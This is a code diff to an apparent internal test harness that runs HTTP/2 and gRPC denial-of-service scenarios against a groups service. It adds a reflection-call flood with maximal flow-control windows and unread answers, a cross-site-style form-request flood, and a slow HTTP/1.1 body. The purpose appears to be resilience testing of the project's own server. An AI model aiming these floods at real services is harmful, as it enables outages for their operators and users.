@@ -46,9 +46,15 @@ pub(crate) enum Attack {
     LargeMessages,
     /// Those who follow the feed, and never read.
     DeafWatchers,
+    /// Calls with large answers that may be sent at once, and that nobody reads.
+    UnreadAnswers,
+    /// What a page of another site can make a browser send.
+    Forms,
+    /// HTTP/1.1, with a body.
+    Http1,
 }
 
-pub(crate) const ALL: [Attack; 10] = [
+pub(crate) const ALL: [Attack; 13] = [
     Attack::RapidReset,
     Attack::ContinuationFlood,
     Attack::PingFlood,
@@ -59,6 +65,9 @@ pub(crate) const ALL: [Attack; 10] = [
     Attack::HalfOpen,
     Attack::LargeMessages,
     Attack::DeafWatchers,
+    Attack::UnreadAnswers,
+    Attack::Forms,
+    Attack::Http1,
 ];
 
 impl Attack {
@@ -69,7 +78,7 @@ impl Attack {
         let connections = match self {
             Self::HalfOpen => return half_open(target, end).await,
             Self::SlowHeaders => 200,
-            Self::SlowBodies | Self::DeafWatchers => 8,
+            Self::SlowBodies | Self::DeafWatchers | Self::UnreadAnswers => 8,
             _ => 4,
         };
         let mut attackers = JoinSet::new();
@@ -88,6 +97,9 @@ impl Attack {
     }
 
     async fn once(self, target: SocketAddr, number: u8, pace: Duration) -> std::io::Result<()> {
+        if self == Self::Http1 {
+            return http_1(target, number).await;
+        }
         let mut stream = begin(target, number).await?;
         match self {
             Self::RapidReset => {
@@ -176,10 +188,59 @@ impl Attack {
                 }
                 std::future::pending::<()>().await;
             }
-            Self::HalfOpen => {}
+            Self::UnreadAnswers => {
+                // As much as there may be: 2^31-1 for each stream, and for the connection.
+                let mut frames = frame(SETTINGS, 0, 0, &[0, 4, 0x7f, 0xff, 0xff, 0xff]);
+                let more: u32 = 0x7fff_ffff - 65_535;
+                frames.extend(frame(WINDOW_UPDATE, 0, 0, &more.to_be_bytes()));
+                stream.write_all(&frames).await?;
+                // The descriptor of a file, with its comments.
+                let mut question = vec![0, 0, 0, 0, 24, 0x22, 22];
+                question.extend(b"groups.v1.GroupService");
+                for id in (1..2000).step_by(2) {
+                    let call = call("ServerReflectionInfo");
+                    let mut frames = frame(HEADERS, END_HEADERS, id, &call);
+                    frames.extend(frame(DATA, END_STREAM, id, &question));
+                    stream.write_all(&frames).await?;
+                }
+                sleep(pace.max(Duration::from_millis(300))).await;
+            }
+            Self::Forms => {
+                let (mut reading, mut writing) = stream.into_split();
+                let reading = async { tokio::io::copy(&mut reading, &mut tokio::io::sink()).await };
+                let writing = async {
+                    for first in (1..).step_by(100) {
+                        let mut frames = Vec::new();
+                        for id in (first..).step_by(2).take(50) {
+                            let form = headers("CreateGroup", b"application/x-www-form-urlencoded");
+                            frames.extend(frame(HEADERS, END_HEADERS, id, &form));
+                            frames.extend(frame(DATA, END_STREAM, id, b"title=Ops&role_ids=x"));
+                        }
+                        writing.write_all(&frames).await?;
+                        sleep(pace).await;
+                    }
+                    Ok::<_, std::io::Error>(())
+                };
+                tokio::try_join!(reading, writing)?;
+            }
+            Self::HalfOpen | Self::Http1 => {}
         }
         Ok(())
     }
+}
+
+/// A request with a body that goes on after it is answered.
+async fn http_1(target: SocketAddr, number: u8) -> std::io::Result<()> {
+    let mut stream = connect(target, number % 4).await?;
+    let head = "POST /groups.v1.GroupService/CreateGroup HTTP/1.1\r\nhost: x\r\n\
+                content-type: application/grpc\r\ncontent-length: 1000000\r\n\r\n";
+    stream.write_all(head.as_bytes()).await?;
+    let part = [b'x'; 1000];
+    for _ in 0..1000 {
+        stream.write_all(&part).await?;
+        sleep(Duration::from_millis(1)).await;
+    }
+    Ok(())
 }
 
 /// Ten thousand, a thousand from each address; whoever is hung up on doesn't come again.
@@ -296,21 +357,27 @@ fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
     frame
 }
 
-/// The headers of a call: literals that nobody need remember.
+/// The headers of a call.
 fn call(rpc: &str) -> Vec<u8> {
+    headers(rpc, b"application/grpc")
+}
+
+/// The headers of a request: literals that nobody need remember.
+fn headers(rpc: &str, content_type: &[u8]) -> Vec<u8> {
     let service = match rpc {
-        "CheckAccess" => "AccessService",
-        "WatchChanges" => "ChangeService",
-        _ => "GroupService",
+        "CheckAccess" => "groups.v1.AccessService",
+        "WatchChanges" => "groups.v1.ChangeService",
+        "ServerReflectionInfo" => "grpc.reflection.v1.ServerReflection",
+        _ => "groups.v1.GroupService",
     };
     let mut headers = vec![0x83, 0x86];
     literal(
         &mut headers,
         b":path",
-        format!("/groups.v1.{service}/{rpc}").as_bytes(),
+        format!("/{service}/{rpc}").as_bytes(),
     );
     literal(&mut headers, b":authority", b"localhost");
-    literal(&mut headers, b"content-type", b"application/grpc");
+    literal(&mut headers, b"content-type", content_type);
     literal(&mut headers, b"te", b"trailers");
     headers
 }
